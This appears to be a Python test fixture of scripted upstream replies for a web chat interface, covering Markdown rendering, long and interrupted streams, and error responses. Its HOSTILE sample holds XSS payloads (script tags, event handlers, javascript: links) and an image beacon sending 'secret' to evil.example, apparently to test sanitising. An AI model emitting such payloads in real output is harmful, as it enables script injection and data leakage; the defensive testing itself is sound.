"""What the scripted upstream answers, by question."""

from __future__ import annotations

from tests.web.upstream import Script

MARKDOWN = """\
A **queue** hands out what came *first*; a stack what came last.

### In short

1. Put items in with `append`
   - it never copies
   - it is thread-safe
2. Take them out with `popleft`

| Operation | Cost |
|---|---|
| `append` | O(1) |
| `popleft` | O(1) |

> Measure before you optimise.

```python
from collections import deque

def rotate(items: deque[int], steps: int) -> None:
    for _ in range(steps):
        items.append(items.popleft())  # a comment that is long enough to be wider than a telephone's screen is
```

More is in [the documentation](https://docs.python.org/3/library/collections.html), under https://docs.python.org.
"""

HOSTILE = """\
<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">

<iframe src="javascript:parent.pwned = 3"></iframe> <style>body { display: none }</style>

[run](javascript:window.pwned=4) [data](data:text/html,<script>1</script>) [disguised](https://bank.example@evil.example/)

![beacon](https://evil.example/beacon.png?text=secret)

[outside](https://example.org/page "onmouseover=pwned") and <b onclick="pwned=5">bold</b> &lt;i&gt;

```html
<script>window.pwned = 6</script>
```
"""

LONG = [f"Paragraph {n:2}. {'Some text. ' * 13:<144}\n\n" for n in range(80)]  # 160 signs each, so that 40 divide them

SCRIPTS = {
    "markdown": Script(text=MARKDOWN, size=5),
    "hostile": Script(text=HOSTILE, size=3),
    "unending": Script(text="word " * 101, size=5, gap_s=0.02, halts=(500,)),
    "late": Script(text="At last.", halts=(0,)),
    "long": Script(text="".join(LONG), size=40, gap_s=0.004, halts=(20 * 160, 40 * 160, 60 * 160)),
    "cut": Script(text="This sentence will never", broken=True),
    "break off": Script(text="A trimaran has ", broken=True),
    "A trimaran has": Script(text="three hulls."),  # how the rest of it is asked for: the last space is left out
    "limit": Script(text="This sentence has no", finish="length"),
    "overloaded": Script(status=503, error="the engine is out of memory"),
}
